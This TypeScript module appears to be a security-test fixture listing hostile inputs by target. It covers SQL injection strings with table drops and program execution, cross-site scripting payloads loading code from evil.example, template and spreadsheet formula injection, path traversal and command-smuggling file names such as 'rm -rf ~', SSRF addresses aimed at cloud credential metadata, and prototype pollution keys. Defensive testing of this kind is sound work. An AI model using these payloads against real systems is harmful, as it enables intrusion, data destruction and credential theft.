/** What people have tried elsewhere, by what it is aimed at. `hostile.ts` holds addresses. */

/** Pieces of SQL that mean something in one quoting or another. */
export const sqlPieces = [
  "'", "''", '"', '`', "\\'", "'; select pg_sleep(9); --", "' or '1'='1", "' or 1=1 --", "') or ('1'='1", '" or ""="', "1; drop table usuario; --", "1 union select hash from credencial", "' union select null,null,null --",
  "'||(select current_setting('app.empresa'))||'", "$$; select 1; $$", "$1", ":1", "?", "%", "_", "%%", "\\", "\\\\", "\\%", "x' and 1=(select count(*) from pg_class) --", "x'; copy usuario to program 'id'; --",
  "/* */", "/*", "--", "# comment", "0x27", "char(39)", "';waitfor delay '0:0:9'--", "1e999", "null", "true) or (true", "' collate \"C\" desc --", "id)--", "'::regclass", "{a,b}", "array[1]", "[0:1]={1,2}", "E'\\047'", "U&'\\0027'", "%27", "ʼ", "＇", "' OR NOT EXISTS (SELECT 1) --",
] as const;
/** What an error of the database or of the program would show. */
export const innards = /syntax error|pg_|postgres|sqlstate|\bselect \b.*\bfrom\b.*\bwhere\b|relation "|column "|unterminated|invalid input syntax|at .*\.[jt]s:\d+|node_modules|\bundefined\b|\[object /i;

/** The name that every script of {@link scripts} calls. */
export const sentinel = '__invadido';
const call = `window.${sentinel}=1`;
/** Markup that runs where a text is taken for HTML, an attribute, a style, an address or a template. */
export const scripts = [
  `<script>${call}</script>`, `<ScRiPt>${call}</sCrIpT>`, `</script><script>${call}</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`,
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`, `<iframe src="javascript:${call}">`, `<iframe srcdoc="<script>parent.${sentinel}=1</script>">`,
  `<body onload=${call}>`, `<details open ontoggle=${call}>`, `<video><source onerror=${call}>`, `<audio src=x onerror=${call}>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`, `<marquee onstart=${call}>`, `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`, `<form action="javascript:${call}"><button>x</button></form>`, `<a href="javascript:${call}">x</a>`, `<a href="java&#x09;script:${call}">x</a>`, `<a href=" javascript:${call}">x</a>`, `<math><mi xlink:href="javascript:${call}">x</mi></math>`, `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import'//evil.example/x.css'</style>`, `<div style="background:url(//evil.example/x)">`, `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>`, `" onmouseover="${call}" x="`, `' onfocus='${call}' autofocus x='`,
  `"autofocus onfocus=${call}//`, `javascript:${call}`, `JaVaScRiPt:${call}`, `javascript&colon;${call}`, `\u0001javascript:${call}`, `data:text/html,<script>${call}</script>`, `vbscript:msgbox(1)`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`, `<![CDATA[<script>${call}</script>]]>`, `<!--<img src="--><img src=x onerror=${call}>">`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<template><script>${call}</script></template>`, `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `\${${call}}`, `{{constructor.constructor('${call}')()}}`, `<%= ${call} %>`, `#{${call}}`, `*{${call}}`, `\`\${${call}}\``, `'-${call}-'`, `";${call};//`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`, `</style><script>${call}</script>`, `]]><script>${call}</script>`, `?><script>${call}</script>`,
  `<img src="x\` onerror=${call}>`, `<img/src/onerror=${call}>`, `<a href=x id=${sentinel}>`, `<form id=body><input name=innerHTML>`, `<portal src=//evil.example>`, `<dialog open onclose=${call}>`, `<isindex action=javascript:${call}>`, `\u2028${call}`, `＜script＞${call}＜/script＞`, `<\u0000script>${call}</script>`, `<sCript\u0020>${call}</script\u0020>`,
] as const;

/** Templates that an engine would reckon: `{{7*7}}` is 49 somewhere. */
export const templates = ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '*{7*7}', '{{=7*7}}', '${{7*7}}', '[[7*7]]', '{%print(7*7)%}', '@(7*7)', '{7*7}', '#set($x=7*7)${x}'] as const;

/** What a spreadsheet takes for a formula, or for a program to run. */
export const formulas = [
  '=1+1', '=cmd|\'/c calc\'!A1', '=HYPERLINK("http://evil.example","clique")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '+1+1', '-1+1', '@SUM(1;1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1', ';=1+1', 'x;=1+1', 'x"\r\n=1+1', '=DDE("cmd";"/C calc";"x")', '%0A=1+1',
] as const;

/** Names of files that mean to be elsewhere, or something else. */
export const fileNames = [
  '../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\boot.ini', '....//....//x', '..%2f..%2fx', '%2e%2e%2fx', '..%c0%afx', '..;/x', '\\\\evil.example\\share\\x', 'file:///etc/passwd', 'x\u0000.png', 'x%00.png', 'x.png\r\nContent-Type: text/html', 'x"; filename="y.html', "x'; rm -rf ~", '$(id).png', '`id`.png', '|id', '-rf',
  '.htaccess', '.', '..', '...', ' ', 'CON', 'NUL.png', 'x.php.png', 'x.png.exe', 'x.html', 'x.svg', 'x\u202egnp.exe', 'x'.repeat(300), `${'../'.repeat(40)}x`, '/proc/self/environ', '~/x', 'a/b/c.png', 'a:b.png', '<script>.png', 'é ç ã.png',
] as const;

/** Addresses of this machine, of the network round it, and of what tells machines their secrets, in every dress. `port`: of a canary that must not be called. */
export const inner = (port: number): readonly string[] => [
  '127.0.0.1', '127.0.0.2', '127.1', '127.000.000.001', '0.0.0.0', '0', '2130706433', '0x7f000001', '0x7f.0.0.1', '0177.0.0.1', '017700000001', '127.0.1', 'localhost', 'LOCALHOST', 'localhost.', 'ip6-localhost', '[::1]', '[::]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]',
  '[64:ff9b::7f00:1]', '[fe80::1]', '[fd00::1]', '10.0.0.1', '172.16.0.1', '192.168.0.1', '100.64.0.1', '169.254.169.254', '[::ffff:169.254.169.254]', '[fd00:ec2::254]', '224.0.0.1', '255.255.255.255', '198.18.0.1', '①②⑦.⓪.⓪.①', '127。0。0。1', '127．0．0．1', 'user@127.0.0.1', 'evil.example@127.0.0.1', '127.0.0.1#@evil.example', '127.0.0.1%2f@evil.example',
].flatMap((host) => [`http://${host}:${port}/canario`]).concat([
  `https://127.0.0.1:${port}/canario`, `ftp://127.0.0.1:${port}/canario`, `gopher://127.0.0.1:${port}/_canario`, `dict://127.0.0.1:${port}/canario`, 'file:///etc/passwd', 'jar:http://127.0.0.1!/', 'ldap://127.0.0.1/', 'tftp://127.0.0.1/x', 'data:text/plain,x', `http:127.0.0.1:${port}/canario`, `http:\\\\127.0.0.1:${port}\\canario`, `//127.0.0.1:${port}/canario`,
  'http://metadata.google.internal/computeMetadata/v1/', 'http://instance-data/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://100.100.100.200/latest/meta-data/', 'http://[::ffff:a9fe:a9fe]/', `http://127.0.0.1:${port}\u0000.evil.example/`, `http://evil.example\u0009@127.0.0.1:${port}/`,
]);

/** Keys that reach the prototype of every object. */
export const polluting = ['{"__proto__":{"invadido":1}}', '{"constructor":{"prototype":{"invadido":1}}}', '{"prototype":{"invadido":1}}', '{"a":{"__proto__":{"invadido":1}}}', '{"a":[{"__proto__":{"invadido":1}}]}', '{"__proto__":null}', '{"__proto__":[]}', '{"\\u005f_proto__":{"invadido":1}}'] as const;
